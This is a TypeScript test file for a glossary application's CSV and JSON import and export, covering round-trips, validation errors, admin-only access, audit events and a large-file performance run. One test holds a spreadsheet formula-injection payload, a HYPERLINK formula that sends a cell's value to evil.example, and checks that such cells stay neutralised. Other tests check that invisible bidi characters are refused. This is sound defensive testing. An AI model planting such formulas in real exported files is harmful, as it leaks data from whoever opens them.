import { count } from "drizzle-orm";
import { beforeEach, expect, it } from "vitest";
import { readGlossaryCsv, writeGlossaryCsv } from "../../src/formats/csv.js";
import { readGlossaryJson, writeGlossaryJson } from "../../src/formats/json.js";
import {
  ConcordError,
  exportGlossary,
  importGlossary,
  lookupTerm,
  termHistory,
  type CoreDeps,
  type ImportProblem,
} from "../../src/core/index.js";
import { auditEvents, definitionVersions, domains, members, termAliases, terms, variants } from "../../src/db/schema/index.js";
import { ADMIN, coreDeps, createManualClock } from "../fixtures/glossary.js";
import { describeEachDatabase, resetDatabase, type TestDatabase } from "../support/databases.js";

const admin = { ref: ADMIN };

const SAMPLE_CSV = [
  "name,definition,example,formula,aliases,owner,consumers,tags,policy,status,variant:support,variant:finance",
  'Customer,"A person or company that paid, at least ""once"".',
  'Second paragraph.",Acme Ltd,,client; account holder; a\\;b,sales,support; finance,core; crm,majority,,"Anyone with a ticket, paid or not",',
  "Churn Rate,The share of customers at the start of a month who cancelled by its end.,,cancelled / start,,finance,,,,deprecated,,Cancelled contracts over all contracts",
  "Café Visit,Un passage au café — counted once per day.,,,,customer-success,,,,,,",
].join("\r\n");

const SAMPLE_JSON = JSON.stringify({
  concord: 1,
  domains: [
    { slug: "sales", name: "Sales" },
    { slug: "support", name: "Customer Support" },
  ],
  terms: [
    {
      name: "Net Revenue",
      definition: "Revenue after refunds and discounts.",
      formula: "sum(amount) - sum(refunds)",
      aliases: ["NR"],
      owner: "sales",
      consumers: ["support"],
      tags: [],
      policy: null,
      status: "active",
      variants: [{ domain: "support", text: "Revenue after refunds.", baseVersion: 2 }],
      versions: [
        { version: 1, text: "Revenue.", agreedAt: "2025-01-02T10:00:00.000Z", proposedBy: "slack:T1:U1", example: null, formula: null },
        { version: 2, text: "Revenue after refunds.", agreedAt: "2025-03-04T10:00:00Z", proposedBy: null },
        {
          version: 3,
          text: "Revenue after refunds and discounts.",
          formula: "sum(amount) - sum(refunds)",
          agreedAt: "2025-06-07T10:00:00+02:00",
          proposedBy: "teams:72f988bf-86f1-41af-91ab-2d7cd011db47:0b7a2f1e-1111-4c3e-9a55-8f6f2e1d9c01",
        },
      ],
    },
    { name: "Lead", definition: "Someone who may buy.", owner: "growth" },
  ],
});

/** The problems an import refused with. */
async function problemsOf(work: Promise<unknown>): Promise<string[]> {
  const error = await work.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ConcordError);
  expect((error as ConcordError).code).toBe("invalid-input");
  return ((error as ConcordError).details.problems as ImportProblem[]).map((p) => `${p.where}: ${p.message}`);
}

async function rowCounts(database: TestDatabase): Promise<Record<string, number>> {
  const counts: Record<string, number> = {};
  for (const [name, table] of Object.entries({ terms, definitionVersions, domains, termAliases, variants, auditEvents, members })) {
    const [row] = await database.db.select({ n: count() }).from(table);
    counts[name] = row!.n;
  }
  return counts;
}

describeEachDatabase("importing and exporting the glossary", (database) => {
  let deps: CoreDeps;

  beforeEach(() => {
    deps = coreDeps(database(), createManualClock());
  });

  it("round-trips a CSV file: import, export, import into an empty database, export the same file", async () => {
    const summary = await importGlossary(deps, admin, readGlossaryCsv(SAMPLE_CSV));
    expect(summary).toMatchObject({ terms: 3, newDomains: ["customer-success", "finance", "sales", "support"] });
    const first = writeGlossaryCsv(await exportGlossary(deps));
    const firstJson = writeGlossaryJson(await exportGlossary(deps));

    await resetDatabase(database().db);
    await importGlossary(deps, admin, readGlossaryCsv(first));
    expect(writeGlossaryCsv(await exportGlossary(deps))).toBe(first);
    expect(writeGlossaryJson(await exportGlossary(deps))).toBe(firstJson);

    const customer = await lookupTerm(deps, "account holder");
    expect(customer.kind).toBe("found");
    if (customer.kind !== "found") return;
    expect(customer.details.current.text).toBe('A person or company that paid, at least "once".\r\nSecond paragraph.');
    expect(customer.details.aliases).toEqual(["a;b", "account holder", "client"]);
    expect(customer.details.term).toMatchObject({ policy: "majority", tags: ["core", "crm"], ownerDomain: { slug: "sales" } });
    expect(customer.details.consumers.map((d) => d.slug)).toEqual(["finance", "support"]);
    expect(customer.details.variants.map((v) => [v.domain.slug, v.text])).toEqual([["support", "Anyone with a ticket, paid or not"]]);
    const exported = await exportGlossary(deps);
    expect(exported.terms.map((t) => [t.name, t.status])).toEqual([
      ["Café Visit", "active"],
      ["Churn Rate", "deprecated"],
      ["Customer", "active"],
    ]);
    expect(exported.domains).toContainEqual({ slug: "customer-success", name: "Customer Success" });
  });

  it("stores formula-leading cells without the apostrophe that kept them text, and exports them neutralised again", async () => {
    const file = [
      "name,definition,example,formula,aliases,owner,tags,variant:support",
      `Net Revenue,"'=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")","'+1 555 0100","'-2+3","'@SUM(A1:A9); NR",sales,"'-internal","'=1+1 for support"`,
      "",
    ].join("\r\n");
    await importGlossary(deps, admin, readGlossaryCsv(file));
    const found = await lookupTerm(deps, "@SUM(A1:A9)");
    expect(found.kind).toBe("found");
    if (found.kind !== "found") return;
    expect(found.details.current).toMatchObject({ text: '=HYPERLINK("https://evil.example/?x="&A1,"Open")', example: "+1 555 0100", formula: "-2+3" });
    expect(found.details.term.tags).toEqual(["-internal"]);
    expect(found.details.variants.map((v) => v.text)).toEqual(["=1+1 for support"]);

    const first = writeGlossaryCsv(await exportGlossary(deps));
    expect(first).toContain(`Net Revenue,"'=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")","'+1 555 0100","'-2+3","'@SUM(A1:A9); NR",sales,`);
    await resetDatabase(database().db);
    await importGlossary(deps, admin, readGlossaryCsv(first));
    expect(writeGlossaryCsv(await exportGlossary(deps))).toBe(first);
  });

  it("round-trips a JSON file with every version's history, proposers and domain names", async () => {
    const file = readGlossaryJson(SAMPLE_JSON);
    expect(await importGlossary(deps, admin, file.records, { domains: file.domains })).toMatchObject({
      terms: 2,
      newDomains: ["growth", "sales", "support"],
    });
    const first = writeGlossaryJson(await exportGlossary(deps));

    await resetDatabase(database().db);
    const again = readGlossaryJson(first);
    await importGlossary(deps, admin, again.records, { domains: again.domains });
    expect(writeGlossaryJson(await exportGlossary(deps))).toBe(first);

    const history = await termHistory(deps, "Net Revenue");
    expect(history.entries.map((e) => [e.version.version, e.version.agreedAt.toISOString(), e.version.proposedBy?.refs[0] ?? null])).toEqual([
      [3, "2025-06-07T08:00:00.000Z", "teams:72f988bf-86f1-41af-91ab-2d7cd011db47:0b7a2f1e-1111-4c3e-9a55-8f6f2e1d9c01"],
      [2, "2025-03-04T10:00:00.000Z", null],
      [1, "2025-01-02T10:00:00.000Z", "slack:T1:U1"],
    ]);
    const exported = await exportGlossary(deps);
    expect(exported.domains).toEqual([
      { slug: "growth", name: "Growth" },
      { slug: "sales", name: "Sales" },
      { slug: "support", name: "Customer Support" },
    ]);
    expect(exported.terms[1]!.variants).toEqual([{ domain: "support", text: "Revenue after refunds.", baseVersion: 2 }]);
  });

  it("reports every bad row with its line and writes nothing", async () => {
    const csv = [
      "name,definition,owner,consumers,policy,status",
      "Customer,A payer.,sales,,,",
      "Churn,The share who left.,finance,,sometimes,",
      '"Multi',
      'line name",,finance,,,',
      "customers,Same as line 2 once slugged.,sales,,,",
      "Lead,Someone.,Sales Team,support; Not A Slug,,retired",
      "!!!,Punctuation only.,,,,",
    ].join("\n");
    expect(await problemsOf(importGlossary(deps, admin, readGlossaryCsv(csv)))).toEqual([
      "line 3: the policy must be one of unanimous, majority, owner, lazy or empty",
      "line 4: the definition is empty",
      'line 6: "customers" is the same term as line 2',
      'line 7: owner: "Sales Team" is not a domain slug (a lowercase letter, then 1 to 39 lowercase letters, digits or hyphens)',
      'line 7: consumers.1: "Not A Slug" is not a domain slug (a lowercase letter, then 1 to 39 lowercase letters, digits or hyphens)',
      "line 7: the status must be active or deprecated",
      "line 8: the name needs at least one letter or digit",
    ]);
    expect(await rowCounts(database())).toEqual({
      terms: 0,
      definitionVersions: 0,
      domains: 0,
      termAliases: 0,
      variants: 0,
      auditEvents: 0,
      members: 0,
    });
  });

  it("refuses names, aliases and domain names holding invisible format characters, naming each, and writes nothing", async () => {
    const file = JSON.stringify({
      concord: 1,
      domains: [
        { slug: "sales", name: "\u2066Sales\u2069" },
        { slug: "sa\u200bles", name: "Sales" },
      ],
      terms: [
        { name: "\u202eremotsuC", definition: "Reads as Customer, sorts and links as remotsuc." },
        { name: "Churn Rate", definition: "The share who left.", aliases: ["churn", "at\u00adtrition"] },
        { name: "Lead", definition: "לקוח\u200f who may buy.", owner: "sales" },
      ],
    });
    const read = readGlossaryJson(file);
    expect(await problemsOf(importGlossary(deps, admin, read.records, { domains: read.domains }))).toEqual([
      "domain 1: the domain name holds an invisible formatting character (U+2066 LEFT-TO-RIGHT ISOLATE), which can make it display differently from what it says",
      'domain 2: "sa\u200bles" is not a domain slug: it holds an invisible formatting character (U+200B ZERO WIDTH SPACE)',
      "term 1: the name holds an invisible formatting character (U+202E RIGHT-TO-LEFT OVERRIDE), which can make it display differently from what it says",
      "term 2: aliases.1: an alias holds an invisible formatting character (U+00AD SOFT HYPHEN), which can make it display differently from what it says",
    ]);
    expect(await rowCounts(database())).toMatchObject({ terms: 0, domains: 0, termAliases: 0, auditEvents: 0 });
  });

  it("reports bad JSON terms by their position, and inconsistent history", async () => {
    const file = JSON.stringify({
      concord: 1,
      domains: [{ slug: "x", name: "Too short a slug" }],
      terms: [
        { name: "Ok", definition: "Fine." },
        { name: "Gone", definition: "New.", versions: [{ version: 2, text: "Old.", agreedAt: "yesterday" }] },
        "not an object",
      ],
    });
    const read = readGlossaryJson(file);
    expect(await problemsOf(importGlossary(deps, admin, read.records, { domains: read.domains }))).toEqual([
      'domain 1: "x" is not a domain slug (a lowercase letter, then 1 to 39 lowercase letters, digits or hyphens)',
      "term 2: versions.0.agreedAt: agreedAt must be an ISO 8601 date and time",
      "term 2: versions must be numbered 1, 2, 3… in order (found 2 at position 1)",
      "term 2: the last of versions must have the same text, example and formula as the definition",
      "term 3: Invalid input: expected object, received string",
    ]);
    expect((await rowCounts(database())).terms).toBe(0);
  });

  it("takes records handed over one at a time, reading the file's domains and notes once the last is read", async () => {
    const named: { slug: string; name: string }[] = [];
    const notes: ImportProblem[] = [];
    function* reader() {
      yield { where: "line 2", data: { name: "Order", definition: "A request to buy.", owner: "sales" } };
      yield { where: "line 3", data: { name: "Order Line", definition: "One item of an order.", owner: "sales", parent: "Order" } };
      named.push({ slug: "sales", name: "Sales & Orders" });
      notes.push({ where: "line 4", message: "a row the reader could not carry over" });
    }
    const summary = await importGlossary(deps, admin, reader(), {
      get domains() {
        return named;
      },
      get notes() {
        return notes;
      },
    });
    expect(summary).toMatchObject({ terms: 2, newDomains: ["sales"], notes: [{ where: "line 4", message: "a row the reader could not carry over" }] });
    expect(await database().db.select({ name: domains.name }).from(domains)).toEqual([{ name: "Sales & Orders" }]);
    const [child] = (await exportGlossary(deps)).terms.filter((t) => t.name === "Order Line");
    expect(child?.parent).toBe("Order");
  });

  it("refuses with the reader's own error, thrown after the last record, before its records' problems", async () => {
    function* reader() {
      yield { where: "line 2", data: { name: "", definition: "" } };
      throw new Error("line 3: not a row of this format");
    }
    await expect(importGlossary(deps, admin, reader())).rejects.toThrow("line 3: not a row of this format");
    expect(await rowCounts(database())).toMatchObject({ terms: 0, domains: 0, auditEvents: 0 });
  });

  it("refuses anyone but an admin, writing nothing", async () => {
    const error = await importGlossary(deps, { ref: "local:sam" }, readGlossaryCsv(SAMPLE_CSV)).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: "forbidden" });
    expect(await rowCounts(database())).toMatchObject({ terms: 0, domains: 0, members: 0 });
  });

  it("writes one audit event per new domain and one for the import, naming every term", async () => {
    await importGlossary(deps, admin, readGlossaryCsv(SAMPLE_CSV));
    const events = await database()
      .db.select({ action: auditEvents.action, subjectId: auditEvents.subjectId, actorRef: auditEvents.actorRef, after: auditEvents.after })
      .from(auditEvents);
    expect(events.map((e) => `${e.action} ${e.subjectId} by ${e.actorRef}`).sort()).toEqual([
      "domain.added customer-success by local:ada",
      "domain.added finance by local:ada",
      "domain.added sales by local:ada",
      "domain.added support by local:ada",
      "glossary.imported * by local:ada",
    ]);
    expect(events.find((e) => e.action === "glossary.imported")!.after).toEqual({
      importId: expect.any(Number),
      file: null,
      format: null,
      counts: { created: 3, proposed: 0, unchanged: 0, refused: 0 },
      terms: ["customer", "churn-rate", "cafe-visit"],
      proposals: [],
      newDomains: ["customer-success", "finance", "sales", "support"],
    });
  });
});

/** A deterministic CSV of `count` terms across 12 domains, with aliases, consumers, tags and some variants. */
function generatedCsv(count: number): string {
  const lines = ["name,definition,example,formula,aliases,owner,consumers,tags,policy,status,variant:d00"];
  for (let i = 0; i < count; i++) {
    const domain = (n: number) => `d${String(n % 12).padStart(2, "0")}`;
    lines.push(
      [
        `Term ${i.toString(36)} Metric`,
        `"Definition ${i}, with a comma and ""quotes""\nand a second line."`,
        i % 3 === 0 ? `Example ${i}` : "",
        i % 5 === 0 ? `"sum(x_${i})"` : "",
        `alias ${i}; other ${i}`,
        domain(i),
        `${domain(i + 1)}; ${domain(i + 2)}`,
        i % 2 === 0 ? "even" : "odd",
        i % 7 === 0 ? "lazy" : "",
        i % 11 === 0 ? "deprecated" : "active",
        i % 4 === 0 ? `Variant ${i}` : "",
      ].join(","),
    );
  }
  return `${lines.join("\r\n")}\r\n`;
}

describeEachDatabase("a 10,000-term CSV", (database) => {
  it("imports in well under a minute and round-trips", { timeout: 240_000 }, async () => {
    const deps = coreDeps(database(), createManualClock());
    const csv = generatedCsv(10_000);
    const timings: Record<string, string> = {};
    const time = async <T>(label: string, work: () => Promise<T>): Promise<T> => {
      const started = performance.now();
      const result = await work();
      timings[label] = `${((performance.now() - started) / 1000).toFixed(1)} s`;
      return result;
    };

    const summary = await time("import", () => importGlossary(deps, admin, readGlossaryCsv(csv)));
    expect(summary.terms).toBe(10_000);
    expect(summary.newDomains).toHaveLength(12);
    const first = writeGlossaryCsv(await time("export", () => exportGlossary(deps)));
    expect(first.split("\r\n").length).toBeGreaterThan(10_000);

    await resetDatabase(database().db);
    await time("re-import", () => importGlossary(deps, admin, readGlossaryCsv(first)));
    expect(writeGlossaryCsv(await exportGlossary(deps))).toBe(first);
    console.log(`10,000-term CSV on ${database().kind}: ${JSON.stringify(timings)}`);
    expect(Number.parseFloat(timings.import!)).toBeLessThan(30);
  });
});
